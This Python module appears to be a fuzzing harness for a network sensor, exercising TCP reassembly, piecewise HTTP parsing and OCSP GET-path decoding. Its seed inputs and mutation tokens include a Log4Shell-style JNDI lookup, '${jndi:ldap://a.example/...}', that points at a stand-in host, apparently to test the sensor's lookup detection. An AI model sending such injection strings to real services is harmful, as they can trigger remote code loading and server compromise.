"""Targets: TCP segments in any order, HTTP in any pieces, targets of GETs."""

from __future__ import annotations

import contextlib
import re
from collections.abc import Iterator
from unittest import mock

import sensor.http.reader
from sensor.flow.stream import END_OF_INPUT, FIN, RESET, TIMEOUT
from sensor.http.cleartext import read_cleartext
from sensor.http.grammar import parse_request_line, unescape_uri, uri_oddity
from sensor.http.lookups import find_lookups
from sensor.http.resync import find_message
from sensor.http.second import SecondReading
from sensor.http.transaction import HttpTransaction
from sensor.ocsp.carriage import decode_get, decode_get_readings, resembles_get
from sensor.ocsp.exchange import OcspDecoder
from sensor.settings import FlowSettings, HttpSettings, OcspSettings
from sensor.weird import Weird
from tests.flow.frames import START
from tests.flow.talk import Ends, Segment, listen, stream
from tests.fuzz.target import Target
from tests.http.test_reader_properties import FRAMED_OTHERWISE, REPLIES, REQUESTS, SMALL, told
from tests.http.wire import End, Heard, Lost, Step, hear
from tests.ocsp import wire as ocsp

_STEP = 8
_REACH = 4096
_STREAMS = {who: stream(0, 2 * _REACH, who) for who in (True, False)}
_TIGHT = FlowSettings(max_ooo_segments=4, hole_wait_bytes=600, max_reassembly_bytes=2000, reorder_wait_s=0.01)


def _segments(data: bytes) -> list[Segment]:
    """Eight octets each: TCP flags and, in the two highest bits, who sends and whether its octets are a lie; place,
    length, acknowledgment, time to pass."""
    ends = Ends()
    made, now = [], START
    for at in range(0, min(len(data), 200 * _STEP) - _STEP + 1, _STEP):
        head, seq, size, ack, wait = data[at], data[at + 1 : at + 3], data[at + 3], data[at + 4 : at + 6], data[at + 6]
        who = head & 0x40 == 0
        place, acked = int.from_bytes(seq, "big") % _REACH, int.from_bytes(ack, "big") % _REACH
        size = size * 4 if data[at + 7] & 1 else size
        now += wait * wait * 20_000
        payload = _STREAMS[who][max(place, 1) : max(place, 1) + size]
        if head & 0x80:
            payload = bytes(octet ^ 0x55 for octet in payload)
        mine, other = (ends.cisn, ends.sisn) if who else (ends.sisn, ends.cisn)
        flags = head & 0x3F
        cut = size // 2 if data[at + 7] & 2 else None
        first = place if flags & 2 else max(place, 1)
        made.append(Segment(now, who, mine + first, other + acked, flags, payload, data[at + 7] << 8, cut))
    return made


def reassembly(data: bytes) -> None:
    """Whatever a reader hears was sent so; StreamReader's contract and conservation are checked by those who listen."""
    ends, segments = Ends(), _segments(data)
    frames = [ends.frame(segment) for segment in segments]
    forged = any(octet & 0x80 for octet in data[::_STEP])
    for limits in (None, _TIGHT):
        one = listen(limits).feed(frames).end()
        other = listen(limits).feed(frames, 1).end()
        assert one.out == other.out, "batches make a difference"
        assert [reader.told for reader in one.readers] == [reader.told for reader in other.readers]
        # Other numbers, what was given up and comes all the same, and a copy that is read instead have readers of their
        # own; no segment brings more than one.
        assert len(one.readers) <= one.tracker.flows_seen + len(segments)
        if not forged:
            for reader in one.readers:
                for who in (True, False):
                    assert all(chunk in _STREAMS[who] for _, chunk in reader.heard[who]), "invented octets"


def _op(flags: int, place: int, size: int = 0, ack: int = 1, wait: int = 7, other: int = 0) -> bytes:
    return bytes((flags,)) + place.to_bytes(2, "big") + bytes((size,)) + ack.to_bytes(2, "big") + bytes((wait, other))


def _reassemblies() -> Iterator[bytes]:
    opened = _op(0x02, 0) + _op(0x52, 0) + _op(0x10, 1)
    closed = _op(0x11, 101, ack=201) + _op(0x51, 201, ack=102) + _op(0x10, 102, ack=202)
    said = _op(0x18, 1, 100) + _op(0x58, 1, 200, ack=101)
    yield opened + said + closed
    yield said + closed
    yield opened + _op(0x10, 51, 50) + _op(0x10, 1, 50) + _op(0x58, 101, 100, ack=101) + _op(0x50, 1, 100) + closed
    yield opened + _op(0x10, 51, 50) + _op(0x50, 1, 0, ack=101) + _op(0x10, 201, 50, wait=255) + closed
    yield opened + said + _op(0x98, 1, 100) + _op(0x90, 50, 90) + closed
    yield opened + _op(0x10, 2000, 250, other=1) * 6 + _op(0x14, 1) + said
    yield opened + said + _op(0x04, 101) + said + _op(0x02, 0, wait=255) * 3 + opened
    yield opened + _op(0x30, 1, 100, other=2) + _op(0x10, 0, 1) + _op(0x10, 101, 1) + closed


_MARK = re.compile(rb"\xff([<>~.])")
_ENDS = (FIN, RESET, TIMEOUT, END_OF_INPUT)


def _steps(data: bytes) -> list[Step]:
    """0xFF and ">": the client says what follows; "<": the server; "~": so many octets of the server's are lost; ".":
    a direction ends."""
    parts = _MARK.split(data)
    steps: list[Step] = [(">", parts[0])] if parts[0] else []
    for mark, said in zip(parts[1::2], parts[2::2], strict=True):
        if mark == b"~":
            steps.append((">" if said[:1] == b">" else "<", Lost(int.from_bytes(said[1:3], "big"))))
        elif mark == b".":
            steps.append((">" if said[:1] == b">" else "<", End(_ENDS[len(said) % 4])))
        else:
            steps.append((mark.decode(), said))
    ended: set[str] = set()
    kept = []
    for step in steps:
        if step[0] not in ended:
            kept.append(step)
        if isinstance(step[1], End):
            ended.add(step[0])
    return kept


_HTTP, _OCSP = HttpSettings(), OcspSettings()


def http(data: bytes) -> None:
    """What both sides say, whole, in pieces and octet by octet."""
    steps = _steps(data)
    cuts = [1 + octet for octet in data[:12]]
    for limits in (_HTTP, SMALL):
        for probation in (False, True):
            with _finds() as in_whole:
                whole = hear(*steps, settings=limits, probation=probation)
            for mode in ("bytewise", "cut"):
                with _finds() as in_pieces:
                    pieces = hear(*steps, mode=mode, cuts=cuts, settings=limits, probation=probation)
                if in_whole == in_pieces:
                    _same(whole, pieces)
            _sound(whole.transactions, limits)
    decoder = OcspDecoder(_OCSP)
    for transaction in whole.transactions:
        read_cleartext(transaction, False, _HTTP)
        assert all(item is not None for item in decoder.feed(transaction))
    assert all(isinstance(item, HttpTransaction | SecondReading | Weird) for item in whole.out)


@contextlib.contextmanager
def _finds() -> Iterator[list[tuple[bool, bytes]]]:
    """How messages were found where nobody knew what octets are, as behind a hole in a head: True, behind the end of a
    line, wherever pieces end; False, at the beginning of a piece; and how the start line begins."""
    found: list[tuple[bool, bytes]] = []

    def find_and_tell(data: bytes, start: int, is_orig: bool, max_line: int) -> tuple[int, int]:
        place = find_message(data, start, is_orig, max_line)
        if place[0] >= 0:
            found.append((data[place[0] - 1 : place[0]] == b"\n", data[place[0] : place[0] + 12]))
        return place

    with mock.patch.object(sensor.http.reader, "find_message", find_and_tell):
        yield found


_LOST = frozenset(
    (
        "bad_HTTP_request",
        "bad_HTTP_request_with_version",
        "bad_HTTP_reply",
        "non_http_on_port_80",
        "HTTP_header_too_large",
        "unexpected_server_HTTP_data",
        "HTTP_bad_chunk_size",
        "inflate_failed",
    )
)
"""Behind these the next message is searched for, which may begin wherever a segment does: there pieces count. Of
compressed data that breaks, zlib gives up what it had made of the piece in which it breaks."""


def _same(whole: Heard, pieces: Heard) -> None:
    """What is told does not depend on pieces, up to where the reader had to say that it is lost."""
    lost, also = (_LOST.intersection(heard.weirds) for heard in (whole, pieces))
    assert bool(lost) == bool(also), (lost, also)
    if not lost and whole.service == "http":
        assert told(pieces) == told(whole)


def _sound(transactions: list[HttpTransaction], limits: HttpSettings) -> None:
    for item in transactions:
        assert item.request is not None or item.response is not None
        for half in (item.request, item.response):
            if half is None:
                continue
            assert half.notable or len(half.headers) <= limits.max_headers
            for file in half.files:
                assert file.seen_bytes > 0
                assert file.missing_bytes >= 0
                if isinstance(file.content, bytes):
                    assert len(file.content) == file.seen_bytes
                    assert file.missing_bytes == 0


def _conversations() -> Iterator[bytes]:
    for number, asked in enumerate(REQUESTS):
        for answered in REPLIES[number % 3 :: 3]:
            yield b"\xff>" + asked + b"\xff<" + answered + b"\xff>" + REQUESTS[0] + b"\xff~<\0\x05\xff.<\xff.>"
    for asked in FRAMED_OTHERWISE:
        yield b"\xff>" + asked + b"\xff<" + REPLIES[2] + b"\xff>" + REQUESTS[0] + b"\xff<" + REPLIES[0] + b"\xff.>"


def get_path(data: bytes) -> None:
    """A raw target: what carries a request carries the same one again, and what is found are requests."""
    found = decode_get(data, _OCSP)
    readings = decode_get_readings(data, _OCSP)
    assert found is None or found in readings, "two ways to read a target disagree"
    assert found == decode_get(data, _OCSP)
    for reading in readings:
        assert len(reading[0].cert_ids) <= _OCSP.max_cert_ids
    resembles_get(data, _OCSP, True)
    plain = unescape_uri(data)
    assert len(plain) <= len(data)
    uri_oddity(data)
    line = parse_request_line(b"GET " + data + b" HTTP/1.1")
    assert line is None or line[1] in data
    find_lookups(data)


def _targets() -> Iterator[bytes]:
    from base64 import b64encode, urlsafe_b64encode
    from urllib.parse import quote

    for message in (
        ocsp.request(ocsp.cert_id(7)),
        ocsp.request(ocsp.cert_id(b"\x0f" * 20), ocsp.cert_id(8)),
        ocsp.request(ocsp.cert_id(9), exts=(ocsp.extension(ocsp.NONCE, ocsp.octets(b"nonce??>")),)),
    ):
        text = b64encode(message)
        yield b"/" + text
        yield b"/ocsp/" + quote(text, safe="").encode()
        yield b"http://a.example/" + urlsafe_b64encode(message)
        yield b"/x/?q=" + text.replace(b"=", b"")
        yield b"/" + quote(quote(text, safe=""), safe="").encode()
        yield b"/" + text.replace(b"//", b"/") + b"?x=${jndi:ldap://a.example/${lower:b}}"


TARGETS = (
    Target(
        "reassembly",
        reassembly,
        _reassemblies,
        "readers hear what was sent and nothing else, as their contract says; conservation; batches change nothing",
        max_size=200 * _STEP,
        mutations=800,
    ),
    Target(
        "http",
        http,
        _conversations,
        "whole, in pieces and octet by octet are the same; records are sound; nothing raises",
        (
            b"\r\n\r\n",
            b"HTTP/1.1 ",
            b"Transfer-Encoding: chunked\r\n",
            b"Content-Length: ",
            b"Content-Encoding: gzip\r\n",
            b"\xff>",
            b"\xff<",
            b"\xff~<\0\x05",
            b"\xff.>",
            b"Cookie: ",
            b"Content-Range: bytes 0-4/10\r\n",
            b"0\r\n\r\n",
            b"multipart/mixed; boundary=b\r\n",
            b"Authorization: Basic ",
            b"Upgrade: ",
            b"CONNECT ",
            b"HEAD ",
            b"${jndi:",
        ),
        mutations=200,
    ),
    Target(
        "get_path",
        get_path,
        _targets,
        "nothing raises; the one reading is among the readings; the same twice; within limits",
        (b"%2F", b"%2B", b"%3D", b"%25", b"//", b"MEo", b"MFE", b"${", b"${lower:", b"}", b"?", b"="),
        2048,
        4000,
    ),
)
